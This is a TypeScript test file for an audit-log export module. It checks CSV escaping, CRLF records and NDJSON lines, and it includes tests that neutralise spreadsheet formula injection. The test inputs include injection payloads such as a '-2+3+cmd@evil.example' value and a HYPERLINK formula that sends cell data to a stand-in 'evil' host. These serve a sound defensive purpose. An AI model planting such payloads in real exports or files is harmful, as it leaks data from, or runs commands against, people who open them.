import { describe, expect, it } from "vitest";
import { CSV_HEADER, csvField, csvLine, ndjsonLine, type ExportRow } from "./format";

const row: ExportRow = {
  seq: 12,
  at: new Date("2026-05-06T07:08:09.010Z"),
  actorId: null,
  actorLabel: "ann@example.com",
  action: "request.create",
  entityType: "ChangeRequest",
  entityId: "cr1",
  clientId: "c1",
  before: null,
  after: '{"reason":"Growth, \\"fast\\"\\nplease"}',
  requestId: null,
  via: "api:tok1",
  prevHash: "a".repeat(64),
  hash: "b".repeat(64),
};

describe("csvField", () => {
  it.each<[string | number | null, string]>([
    [null, ""],
    ["", ""],
    [42, "42"],
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["line\nbreak", '"line\nbreak"'],
    ["cr\rlf", '"cr\rlf"'],
    [" padded", '" padded"'],
  ])("%j → %s", (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  // L3: a failed sign-in's email such as -2+3+cmd@evil.example reached a cell as it was, and a
  // spreadsheet ran it as a formula. OWASP's rule: prefix ' to a cell starting with = + - @ tab CR.
  it.each<[string, string]>([
    ["=1+1", "'=1+1"],
    ["+1+1@a.co", "'+1+1@a.co"],
    ["-2+3+cmd@evil.example", "'-2+3+cmd@evil.example"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
    ['=HYPERLINK("https://evil/?"&A2,"open")', `"'=HYPERLINK(""https://evil/?""&A2,""open"")"`],
    ["a=b", "a=b"],
  ])("neutralises %j → %s", (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it("leaves numbers alone", () => {
    expect(csvField(-3)).toBe("-3");
  });
});

describe("csvLine", () => {
  it("writes one CRLF-terminated record with the columns of the header", () => {
    expect(CSV_HEADER).toBe("seq,at,actorId,actorLabel,action,entityType,entityId,clientId,before,after,requestId,via,prevHash,hash\r\n");
    expect(csvLine(row)).toBe(
      `12,2026-05-06T07:08:09.010Z,,ann@example.com,request.create,ChangeRequest,cr1,c1,,"{""reason"":""Growth, \\""fast\\""\\nplease""}",,api:tok1,${"a".repeat(64)},${"b".repeat(64)}\r\n`,
    );
  });
});

describe("ndjsonLine", () => {
  it("writes one line that parses back to the stored values", () => {
    const line = ndjsonLine({ ...row, actorLabel: "multi\nline" });
    expect(line.endsWith("\n")).toBe(true);
    expect(line.slice(0, -1)).not.toContain("\n");
    expect(JSON.parse(line)).toEqual({ ...row, actorLabel: "multi\nline", at: "2026-05-06T07:08:09.010Z" });
  });
});
